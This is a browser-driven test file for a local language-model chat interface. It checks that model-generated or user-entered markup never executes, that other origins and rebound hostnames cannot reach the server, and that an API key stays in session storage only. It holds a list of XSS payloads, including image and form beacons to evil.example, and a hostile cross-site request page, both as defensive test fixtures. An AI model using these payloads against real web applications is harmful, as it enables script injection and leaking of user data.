// Whom the page trusts: not the model, not other sites; and where keys go.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
    answers,
    begin,
    isClean,
    metric,
    open,
    profile,
    say,
    serve,
    site,
    theText,
    tinyModel,
    titles,
} from './harness.mjs';

const { server, slow } = await begin();

// What a model may say; the grammar makes the model itself say it, byte for byte.

const HOSTILE = [
    '<script>window.pwned = 1</script>',
    '<img src=x onerror="window.pwned = 2">',
    '[click](javascript:window.pwned=3)',
    '<svg onload=window.pwned=4></svg>',
    '![x](http://evil.example/?secret)',
    '<a href="javascript:alert(5)">x</a>',
    '[x](data:text/html,<script>alert(6)</script>)',
    '<iframe srcdoc="<script>parent.pwned=7</script>">',
    '<form action=http://evil.example><button>go',
    '```html\n<script>window.pwned = 8</script>\n```',
    '```"><img src=x onerror=window.pwned=9>\nx\n```',
    '[x]: javascript:alert(10) "t"\n\n[x]',
    '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=11>',
    '<style>*{display:none}</style><base href=http://evil.example/>',
    '[a](vbscript:x) [b](&#106;avascript:x) [c](java&#10;script:x) [d](//evil.example/)',
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    '| a |\n|--|\n| <img src=x onerror=window.pwned=12> |',
];

test('a model that says scripts: nothing runs, nothing is asked for', async () => {
    const context = await profile(),
        page = await open(context, server);
    for (const text of HOSTILE) {
        await page.unrouteAll();
        await page.route('**/v1/chat/completions', (route) => {
            const body = route.request().postDataJSON();
            body.grammar = `root ::= ${JSON.stringify(text)}`;
            body.max_tokens = 400;
            body.messages = [{ role: 'user', content: 'x' }];
            route.continue({ postData: JSON.stringify(body) });
        });
        await say(page, text); /* as the user's too */
        assert.equal(await page.locator('.error:not([hidden])').count(), 0);
    }
    const last = await page.evaluate(() => document.querySelector('.msg.model > .md').textContent);
    assert.match(last, /<script>window.pwned = 1<\/script>/, 'markup is shown as it is');
    const check = async () => {
        assert.equal(await page.evaluate(() => window.pwned), undefined);
        const found = await page.evaluate(() =>
            [...document.querySelectorAll('#messages *')]
                .filter(
                    (n) =>
                        /^(SCRIPT|IMG|IFRAME|FORM|STYLE|BASE|META|OBJECT|EMBED|LINK|MATH|INPUT)$/i.test(n.nodeName) ||
                        [...n.attributes].some((a) =>
                            /^(on|style|src|srcdoc|action|formaction|id$|name$)/i.test(a.name),
                        ) ||
                        (n.href && typeof n.href === 'string' && !/^(https?|mailto):/.test(n.href)),
                )
                .map((n) => n.outerHTML),
        );
        assert.deepEqual(found, []);
        const links = await page.evaluate(() =>
            [...document.querySelectorAll('#messages a')].map((a) => [a.target, a.rel]),
        );
        for (const [target, rel] of links)
            assert.deepEqual([target, rel], ['_blank', 'noopener noreferrer nofollow']);
    };
    await check();
    await page.reload(); /* from what was kept */
    await page
        .locator('.msg.model')
        .nth(HOSTILE.length - 1)
        .waitFor();
    await check();
    isClean(context, server);
    await context.close();
});

test('titles, system prompts and names are text too', async () => {
    const context = await profile(),
        page = await open(context, slow);
    slow.state.answer = () => ({ reasoning: '<img src=x onerror=window.pwned=1>', text: 'fine' });
    await page.click('#settings-open');
    await page.fill('#system', '<script>window.pwned = 2</script>');
    await page.keyboard.press('Escape');
    await say(page, '<img src=x onerror=window.pwned=3>');
    await page.locator('.thought summary').click();
    await theText(page.locator('.thought .md'), '<img src=x');
    assert.equal(slow.state.bodies.at(-1).messages[0].content, '<script>window.pwned = 2</script>');
    await page.reload();
    await theText(page.locator('#list a'), '<img src=x');
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    isClean(context, slow);
    await context.close();
});

test('other sites and a rebound name reach no handler', async () => {
    const attack = `<body><img src="${server.url}metrics"><script src="${server.url}props"></script><iframe src="${server.url}"></iframe>
        <script>
        const u = '${server.url}', j = JSON.stringify({ prompt: 'x', max_tokens: 1 });
        const tries = [
            fetch(u + 'v1/models'), fetch(u + 'v1/models', { mode: 'no-cors' }),
            fetch(u + 'v1/completions', { method: 'POST', body: j }),
            fetch(u + 'v1/completions', { method: 'POST', body: j, mode: 'no-cors' }),
            fetch(u + 'v1/completions', { method: 'POST', body: j, headers: { 'Content-Type': 'application/json' } }),
            new Promise((go) => { const x = new XMLHttpRequest(); x.open('POST', u + 'completion'); x.onloadend = go; x.send(j); }),
        ];
        navigator.sendBeacon(u + 'v1/completions', j);
        for (const path of ['v1/completions', '']) {
            const f = document.createElement('form'), frame = document.createElement('iframe');
            frame.name = 'f' + path.length;
            f.method = 'POST'; f.action = u + path; f.enctype = 'text/plain'; f.target = frame.name;
            document.body.append(frame, f);
            f.submit();
        }
        Promise.allSettled(tries).then((all) => setTimeout(() => { document.title = 'tried ' + all.map((a) => a.status[0] + (a.value?.status ?? '')); }, 500));
        </script></body>`;
    const port = await site(attack),
        context = await profile();
    const tasks = await metric(server, 'tawny:requests_total'),
        handled = await metric(server, 'tawny:http_requests_total');
    const refused = await metric(server, 'tawny:http_refused_total');
    let asked = 2; /* the metrics above that count themselves */
    for (const host of ['localhost', '127.0.0.1']) {
        /* another site, and another origin of the same site */
        const page = await context.newPage();
        await page.goto(`http://${host}:${port}/`);
        await page.waitForFunction(() => document.title.startsWith('tried'));
        assert.doesNotMatch(await page.title(), /f200/);
        await page.close();
    }
    const page = await context.newPage();
    for (const path of ['', 'v1/models', 'metrics', 'page/app.js']) {
        const r = await page.goto(`http://evil.example:${server.port}/${path}`);
        assert.equal(r.status(), 403, path);
    }
    assert.equal(await metric(server, 'tawny:requests_total'), tasks, 'no task was made');
    asked++;
    assert.equal(
        (await metric(server, 'tawny:http_requests_total')) - handled,
        asked,
        'no request reached a handler',
    );
    assert.ok((await metric(server, 'tawny:http_refused_total')) >= refused + 24);
    /* a link works */
    const other = await site(`<a href="${server.url}">chat</a>`);
    await page.goto(`http://localhost:${other}/`);
    await page.click('a');
    await page.locator('#model', { hasText: 'context' }).waitFor();
    await context.close();
});

test('an API key: asked for once, kept in the tab alone', async () => {
    const locked = await serve(tinyModel, '-t', '1', '-n', '8', '--api-key', 'the secret');
    const context = await profile(),
        page = await context.newPage();
    await page.goto(locked.url);
    await page.locator('#key[open]').waitFor();
    await page.fill('#key-text', 'wrong');
    await page.keyboard.press('Enter');
    await theText(page.locator('#key-why'), 'does not know');
    await page.fill('#key-text', 'the secret');
    await page.keyboard.press('Enter');
    await page.locator('#model', { hasText: 'context' }).waitFor();
    await say(page, 'hello');
    assert.notEqual(await answers(page).first().textContent(), '');
    const kept = await page.evaluate(async () => {
        const dbs = await indexedDB.databases();
        return [
            JSON.stringify(localStorage),
            JSON.stringify(sessionStorage),
            document.cookie,
            location.href,
            dbs.length,
        ];
    });
    assert.ok(
        !kept[0].includes('secret') &&
            kept[1].includes('the secret') &&
            kept[2] === '' &&
            !kept[3].includes('secret'),
    );
    await page.reload();
    await page.locator('#model', { hasText: 'context' }).waitFor();
    await page.click('#settings-open');
    await page.click('#forget-key');
    assert.equal(await page.evaluate(() => JSON.stringify(sessionStorage)), '{}');
    const second = await context.newPage();
    await second.goto(locked.url);
    await second.locator('#key[open]').waitFor();
    await second.locator('#key-cancel').click();
    await theText(second.locator('#notice'), 'API key');
    isClean(context, locked, (t) => t.includes('401'));
    await context.close();
    await locked.stop();
});
